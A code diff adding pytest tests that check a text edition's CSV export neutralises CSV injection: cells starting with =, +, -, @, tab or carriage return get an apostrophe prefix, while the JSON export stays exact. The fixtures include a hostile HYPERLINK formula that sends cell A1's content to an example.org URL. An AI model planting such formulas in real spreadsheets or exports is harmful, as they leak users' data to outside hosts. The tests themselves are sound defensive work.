@@ -8,6 +8,7 @@ tests/test_build.py does).
 
 from __future__ import annotations
 
+import copy
 import csv
 import hashlib
 import io
@@ -315,3 +316,97 @@ def test_files_are_made_once_for_the_same_edition_scheme_and_provenance(edition,
     assert len(made) == 1 and again and again[-1].name == downloads_module.SUMS
     later = downloads_module.files(edition, online, Provenance("v2", "2026-01-03", ()))
     assert len(made) == 2 and later != again
+
+
+# ---- the aligned CSV opens as text in a spreadsheet: no cell runs as a formula ---------------
+
+# What a spreadsheet takes as the start of a formula (OWASP, CSV injection): = + - @, a tab and a
+# carriage return. Such a cell gets a leading apostrophe and double quotes: it opens as text.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+HOSTILE = {start: f'{start}HYPERLINK("https://example.org/?"&A1,"click"), 1+1' for start in FORMULA_STARTS}
+
+
+def hostile_edition(edition, code: str):
+    """The edition with paragraphs 1 to 6 of ``code`` starting as a formula, and a note on the
+    first starting so too (a copy: the session's edition is untouched)."""
+    hostile = copy.deepcopy(edition)
+    for number, words in enumerate(HOSTILE.values(), start=1):
+        hostile.texts[code].paragraphs[number] = words
+    hostile.texts[code].translator_notes = {**hostile.texts[code].translator_notes, 1: ("=1+1", "@SUM(A1)")}
+    return hostile
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_a_cell_that_starts_as_a_formula_opens_as_text(edition, start):
+    code = LANGUAGES[1]
+    number = FORMULA_STARTS.index(start) + 1
+    data = downloads_module.aligned_csv(hostile_edition(edition, code))
+    rows = csv_rows(data)
+    row = next(row for row in rows[1:] if row[0] == str(number))
+    assert row[rows[0].index(code)] == "'" + HOSTILE[start]
+    quoted = '"\'' + HOSTILE[start].replace('"', '""') + '"'
+    assert f",{quoted}," in data.decode("utf-8-sig") or f",{quoted}\r\n" in data.decode("utf-8-sig")
+
+
+def test_only_cells_that_start_as_a_formula_change(edition):
+    """The whole CSV read back is the model's words, with the apostrophe exactly where a cell
+    starts as a formula; the real edition has no such cell and no apostrophe added."""
+    code = LANGUAGES[1]
+    for model in (edition, hostile_edition(edition, code)):
+        codes = [language.code for language in model.languages]
+        expected = [["number", "page", *codes]] + [
+            [str(number), spec.slug, *(("'" if words.startswith(tuple(FORMULA_STARTS)) else "") + words
+                                       for words in (model.texts[c].paragraphs[number] for c in codes))]
+            for spec in model.structure.pages for number in spec.numbers]
+        assert csv_rows(downloads_module.aligned_csv(model)) == expected
+    assert not any(cell.startswith("'") for row in csv_rows(downloads_module.aligned_csv(edition)) for cell in row)
+
+
+def test_a_formula_start_in_the_source_file(src):
+    """Through the real reader: paragraphs of source/text/en.txt that start with = + - @."""
+    from hooks import sources
+
+    path = src / "text" / "en.txt"
+    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
+    starts = iter(["=", "+", "-", "@"])
+    for i, line in enumerate(lines):
+        match = PARAGRAPH.match(line.rstrip("\n"))
+        if match and int(match.group(1)) <= 4:
+            lines[i] = f"{match.group(1)}. {next(starts)}{match.group(2)}\n"
+    path.write_text("".join(lines), encoding="utf-8")
+    hostile = sources.load_edition(sources.Layout(src))
+    rows = csv_rows(downloads_module.aligned_csv(hostile))
+    column = rows[0].index("en")
+    for row in rows[1:5]:
+        words = hostile.texts["en"].paragraphs[int(row[0])]
+        assert words[0] in "=+-@" and row[column] == "'" + words
+
+
+def test_the_json_keeps_the_words_exact(edition):
+    """Only the CSV is prefixed: the JSON holds the words, and their SHA-256 is of the words."""
+    from hooks.urls import Scheme
+
+    code = LANGUAGES[1]
+    hostile = hostile_edition(edition, code)
+    online = Scheme("https://example.org/", SOURCE_LANGUAGE)
+    document = downloads_module.language_document(hostile, code, online, Provenance("v1", "2026-01-02", ()))
+    by_number = {para["number"]: para for para in document["paragraphs"]}
+    for number, words in enumerate(HOSTILE.values(), start=1):
+        assert by_number[number]["text"] == words
+        assert by_number[number]["sha256"] == hashlib.sha256(words.encode("utf-8")).hexdigest()
+    assert [note["text"] for note in by_number[1]["notes"] if note["text"] in ("=1+1", "@SUM(A1)")] == \
+        ["=1+1", "@SUM(A1)"]
+    aligned = downloads_module.aligned_document(hostile, online, Provenance("v1", "2026-01-02", ()))
+    assert [p["text"][code] for p in aligned["paragraphs"][:6]] == list(HOSTILE.values())
+
+
+@pytest.mark.parametrize("code", LANGUAGES)
+def test_the_downloads_page_says_how_formula_cells_are_written(edition, code):
+    """Each language's note on the CSV names the characters and the apostrophe put before them."""
+    note = edition.strings[code]["downloads.csv_note"]
+    for sign in ("=", "+", "-", "@", "'"):
+        assert sign in note, f"{code}: {sign!r} is not in downloads.csv_note: {note}"
